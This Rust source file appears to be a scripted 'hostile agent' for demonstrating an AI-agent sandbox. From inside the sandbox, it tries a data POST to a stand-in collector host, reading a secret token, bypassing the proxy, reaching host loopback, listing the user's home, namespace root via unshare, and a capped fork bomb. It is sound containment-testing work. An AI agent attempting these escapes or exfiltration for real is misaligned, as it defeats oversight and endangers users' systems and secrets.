//! The scripted agent of `bot-bottle demo`: runs *inside* the bottle, tries what a hostile agent would try first, and
//! prints one [`Attempt`] per line. It holds no check of its own: whatever it finds it reports.

use serde::{Deserialize, Serialize};
use std::{
    fs,
    io::{self, Read, Write},
    net::{Ipv4Addr, SocketAddr, TcpStream},
    path::Path,
    process::{Child, Command, Stdio},
    sync::Arc,
    time::Duration,
};

/// How long one try may take before it counts as refused.
const PATIENCE: Duration = Duration::from_secs(10);
/// Stops a fork bomb that nothing else stopped.
const BOMB_MAX: usize = 2_000;

/// The one try that is meant to succeed.
pub(crate) const ALLOWED_CALL: &str = "call the allowed API";

/// What the agent is told to try. Nothing here is secret.
#[derive(Debug, clap::Args)]
pub(crate) struct DemoAgentArgs {
    /// The host that a route allows.
    #[arg(long)]
    allowed: String,
    /// A port on which something listens on the host's own loopback.
    #[arg(long)]
    canary: u16,
    /// The home directory of the user who started the demo.
    #[arg(long)]
    home: String,
}

/// One try and what came of it, as seen from inside.
#[derive(Debug, Serialize, Deserialize)]
pub(crate) struct Attempt {
    pub(crate) name: String,
    pub(crate) saw: String,
    /// Whether the agent got what it wanted.
    pub(crate) succeeded: bool,
}

/// Tries everything in turn; a try that fails does not stop the next.
pub(crate) fn run(args: &DemoAgentArgs) -> io::Result<()> {
    report(ALLOWED_CALL, fetch("GET", &args.allowed, "/v1/hello"), |(status, _)| *status == 200)?;
    report("use a method that is not allowed", fetch("DELETE", &args.allowed, "/v1/hello"), |(s, _)| *s < 400)?;
    report("send data to another host", fetch("POST", "collector.example.net", "/drop"), |(s, _)| *s < 400)?;
    report("read the API token", std::env::var("DEMO_TOKEN").map_err(io::Error::other), |value| {
        !value.contains("placeholder")
    })?;
    report("connect without the proxy", connect(SocketAddr::from((Ipv4Addr::new(192, 0, 2, 1), 443))), |_| true)?;
    report("reach a service on the host's loopback", connect((Ipv4Addr::LOCALHOST, args.canary).into()), |_| true)?;
    report("list the user's home", list(Path::new(&args.home)), |_| true)?;
    report("become root in a new namespace", become_root(), |_| true)?;
    report("fork until the machine gives up", fork_bomb(), |count| *count == BOMB_MAX)?;
    Ok(())
}

fn report<T: Show>(name: &str, outcome: io::Result<T>, succeeded: impl FnOnce(&T) -> bool) -> io::Result<()> {
    let attempt = match outcome {
        Ok(value) => Attempt { name: name.to_owned(), succeeded: succeeded(&value), saw: value.show() },
        Err(error) => Attempt { name: name.to_owned(), succeeded: false, saw: error.to_string() },
    };
    let mut line = serde_json::to_vec(&attempt)?;
    line.push(b'\n');
    io::stdout().write_all(&line)
}

/// How a result is told in one line.
trait Show {
    fn show(self) -> String;
}

impl Show for (u16, String) {
    fn show(self) -> String {
        let body: String = self.1.chars().take(160).collect();
        format!("{} {body}", self.0)
    }
}

impl Show for String {
    fn show(self) -> String {
        self
    }
}

impl Show for usize {
    fn show(self) -> String {
        format!("stopped after {self} processes")
    }
}

/// One request through the proxy that the environment names, as any HTTPS client would send it.
fn fetch(method: &str, host: &str, path: &str) -> io::Result<(u16, String)> {
    let proxy = std::env::var("https_proxy").map_err(io::Error::other)?;
    let proxy = proxy.trim_start_matches("http://").trim_end_matches('/');
    let mut stream = TcpStream::connect(proxy)?;
    stream.set_read_timeout(Some(PATIENCE))?;
    write!(stream, "CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n")?;
    let head = read_head(&mut stream)?;
    if status(&head)? != 200 {
        return read_answer(head, stream);
    }
    let name = rustls::pki_types::ServerName::try_from(host.to_owned()).map_err(io::Error::other)?;
    let session = rustls::ClientConnection::new(client_config()?, name).map_err(io::Error::other)?;
    let mut tls = rustls::StreamOwned::new(session, stream);
    write!(tls, "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\nContent-Length: 0\r\n\r\n")?;
    let head = read_head(&mut tls)?;
    read_answer(head, tls)
}

fn client_config() -> io::Result<Arc<rustls::ClientConfig>> {
    let mut roots = rustls::RootCertStore::empty();
    roots.add_parsable_certificates(rustls_native_certs::load_native_certs().certs);
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let config = rustls::ClientConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()
        .map_err(io::Error::other)?
        .with_root_certificates(roots)
        .with_no_client_auth();
    Ok(Arc::new(config))
}

/// Reads up to and with the empty line, a byte at a time so that nothing behind it is taken.
fn read_head(stream: &mut impl Read) -> io::Result<String> {
    let mut head = Vec::new();
    while !head.ends_with(b"\r\n\r\n") && head.len() < 16 * 1024 {
        let mut byte = [0];
        stream.read_exact(&mut byte)?;
        head.extend(byte);
    }
    Ok(String::from_utf8_lossy(&head).into_owned())
}

fn status(head: &str) -> io::Result<u16> {
    let code = head.split(' ').nth(1).and_then(|code| code.parse().ok());
    code.ok_or_else(|| io::Error::other("the answer has no status"))
}

/// The status and the body; the connection ends with the body, cleanly or not.
fn read_answer(head: String, stream: impl Read) -> io::Result<(u16, String)> {
    let lower = head.to_ascii_lowercase();
    let length = lower.split("content-length:").nth(1).and_then(|rest| rest.lines().next()?.trim().parse().ok());
    let mut body = Vec::new();
    match stream.take(length.unwrap_or(64 * 1024)).read_to_end(&mut body) {
        Err(error) if error.kind() != io::ErrorKind::UnexpectedEof => return Err(error),
        _ => {}
    }
    let body = String::from_utf8_lossy(&body).into_owned();
    let body = if lower.contains("transfer-encoding: chunked") { unchunked(&body) } else { body };
    Ok((status(&head)?, body.trim().to_owned()))
}

/// The text of the chunks, each behind a line with its size.
fn unchunked(body: &str) -> String {
    body.split("\r\n").skip(1).step_by(2).collect()
}

fn connect(address: SocketAddr) -> io::Result<String> {
    TcpStream::connect_timeout(&address, PATIENCE).map(|_| format!("connected to {address}"))
}

fn list(directory: &Path) -> io::Result<String> {
    let names =
        fs::read_dir(directory)?.filter_map(|entry| Some(entry.ok()?.file_name().to_string_lossy().into_owned()));
    Ok(names.take(5).collect::<Vec<_>>().join(" "))
}

fn become_root() -> io::Result<String> {
    let output = Command::new("unshare").args(["--user", "--map-root-user", "id", "-u"]).output()?;
    if output.status.success() {
        return Ok(format!("uid {}", String::from_utf8_lossy(&output.stdout).trim()));
    }
    let message = String::from_utf8_lossy(&output.stderr);
    Err(io::Error::other(message.lines().next().unwrap_or("refused").to_owned()))
}

/// Starts processes until the bottle lets no more, then ends them all.
fn fork_bomb() -> io::Result<usize> {
    let mut children: Vec<Child> = Vec::new();
    while children.len() < BOMB_MAX {
        match Command::new("sleep").arg("60").stdin(Stdio::null()).spawn() {
            Ok(child) => children.push(child),
            Err(_) => break,
        }
    }
    let count = children.len();
    for child in &mut children {
        child.kill()?;
        child.wait()?;
    }
    Ok(count)
}
